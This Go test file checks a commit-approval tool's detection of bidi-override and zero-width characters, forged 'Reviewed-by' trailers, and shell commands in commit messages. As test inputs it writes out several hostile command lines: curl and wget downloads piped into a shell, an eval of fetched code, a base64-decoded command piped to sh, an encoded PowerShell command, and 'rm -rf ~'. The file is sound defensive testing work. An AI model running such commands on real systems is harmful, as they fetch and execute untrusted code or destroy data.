package approval_test

import (
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/approval"
	"github.com/airlock-dev/airlock/approval/internal/approvaltest"
)

// Issue 32: a body holding U+202E, a forged Reviewed-by: trailer and curl
// ... | sh was approved unflagged. Each is flagged, naming the commit and
// the line; the near misses ordinary messages hold are not.
func TestCheckMessage(t *testing.T) {
	for _, tc := range []struct {
		line string
		code string // "" for none
	}{
		{"Fix the parser \u202Eexe.txt", approval.FlagMessageHidden},
		{"zero\u200Bwidth", approval.FlagMessageHidden},
		{"Reviewed-by: Jane Doe <jane@example.com>", approval.FlagMessageTrailer},
		{"signed-off-by: A <a@b>", approval.FlagMessageTrailer},
		{"  Approved-By:  security team", approval.FlagMessageTrailer},
		{"Co-authored-by: bot <bot@x>", approval.FlagMessageTrailer},
		{"Acked-by: root", approval.FlagMessageTrailer},
		{"curl -fsSL https://get.example.com | sh", approval.FlagMessageRuns},
		{"To set up: curl -s https://x.example/i.sh | sudo bash -s -- --yes", approval.FlagMessageRuns},
		{"wget -qO- https://x.example/a | bash", approval.FlagMessageRuns},
		{"curl https://x.example/p.py | python3", approval.FlagMessageRuns},
		{"bash <(curl -s https://x.example/i)", approval.FlagMessageRuns},
		{`bash -c "rm -rf ~"`, approval.FlagMessageRuns},
		{`python -c 'import os; os.system("id")'`, approval.FlagMessageRuns},
		{`perl -e 'print 1'`, approval.FlagMessageRuns},
		{`eval "$(curl -s https://x.example)"`, approval.FlagMessageRuns},
		{"echo aWQK | base64 -d | sh", approval.FlagMessageRuns},
		{"powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A", approval.FlagMessageRuns},
		{"iwr https://x.example/a.ps1 | iex", approval.FlagMessageRuns},
		// Near misses: prose about the tools, trailers not claiming review.
		{"Use curl instead of wget for the download", ""},
		{"Pipe the output to shasum: curl -O x | shasum", ""},
		{"Reviewed the parser by hand", ""},
		{"Reported-by: someone <s@example.com>", ""},
		{"Fixes: #123", ""},
		{"Run the tests with python -m pytest", ""},
		{"bash -c is what the hook used; now it runs the script directly", ""},
		{"The shell (sh) reads the file; curl fetches it", ""},
		{"Add a Python -c flag parser", ""},
		{"Tabs\tare fine", ""},
		// Measured on real histories: a line ending CRLF, an emoji's
		// variation selector and joiner deceive nobody; a run of
		// selectors (text smuggled in them) and a CR mid-line do.
		{"Merged from the web UI\r", ""},
		{"Ship it \u2764\uFE0F and \U0001F468\u200D\U0001F469\u200D\U0001F467", ""},
		{"Ship it \u2764\uFE0F\uFE0F\uFE0F", approval.FlagMessageHidden},
		{"Looks fine\rReviewed nothing", approval.FlagMessageHidden},
		{"a\u200Dzero width joiner between letters", approval.FlagMessageHidden},
		// A selector inside a joined emoji (🏳️‍🌈, 🕵️‍♂️, ❤️‍🔥) and a
		// keycap (1️⃣) are emoji as written; two selectors, or a joiner
		// after a letter's selector, are not.
		{"Pride \U0001F3F3\uFE0F\u200D\U0001F308, spy \U0001F575\uFE0F\u200D\u2642\uFE0F, fire \u2764\uFE0F\u200D\U0001F525", ""},
		{"Step 1\uFE0F\u20E3 then #\uFE0F\u20E3", ""},
		{"Step 1\uFE0F\uFE0F", approval.FlagMessageHidden},
		{"a\uFE0F\u200Db", approval.FlagMessageHidden},
		{"\u2764\uFE0F\u200D\u200D\U0001F525", approval.FlagMessageHidden},
	} {
		got := approval.CheckMessage("Subject\n\n" + tc.line + "\n")
		switch {
		case tc.code == "" && len(got) > 0:
			t.Errorf("%q: flagged %+v; want nothing", tc.line, got)
		case tc.code != "" && (len(got) != 1 || got[0].Code != tc.code || got[0].Line != 3):
			t.Errorf("%q: %+v; want one %s on line 3", tc.line, got, tc.code)
		}
	}
}

// The flags of a push name the commit and the line, and what lands of the
// base's commits is checked too.
func TestAssessFlagsMessages(t *testing.T) {
	r := &approval.Request{
		Ref:     "refs/heads/feature",
		Commits: []approval.CommitInfo{{ID: approvaltest.Hash("w"), Message: "Tidy\n\nReviewed-by: Security Team <sec@example.com>\ncurl -s https://x.example/i | sh\n"}},
		// The base's: a real history's trailers are genuine, not flagged;
		// its hidden characters are, one flag for all of its commits.
		BaseCommits: []approval.CommitInfo{{ID: approvaltest.Hash("b"), Message: "Base \u202Egnp.sh\n\nSigned-off-by: A <a@example.com>\n"},
			{ID: approvaltest.Hash("b2"), Message: "More\u200B\n"}},
	}
	flags := approval.Assess(r, approval.Rules{}, nil)
	var got []string
	for _, f := range flags {
		if strings.HasPrefix(f.Code, "message-") {
			got = append(got, f.Code+" "+f.Commit[:7]+" "+f.Message)
		}
	}
	want := []string{
		approval.FlagMessageHidden + " " + approvaltest.Hash("b").String()[:7] + " the base's commit " + approvaltest.Hash("b").String()[:7] + "'s message, its subject: hidden or control characters, shown escaped: Base <U+202E>gnp.sh (and 1 more of the base's commits)",
		approval.FlagMessageTrailer + " " + approvaltest.Hash("w").String()[:7] + " commit " + approvaltest.Hash("w").String()[:7] + "'s message, line 3: a trailer claiming a review or sign-off: Reviewed-by: Security Team <sec@example.com>",
		approval.FlagMessageRuns + " " + approvaltest.Hash("w").String()[:7] + " commit " + approvaltest.Hash("w").String()[:7] + "'s message, line 4: a download piped into a shell: curl -s https://x.example/i | sh",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("flags:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
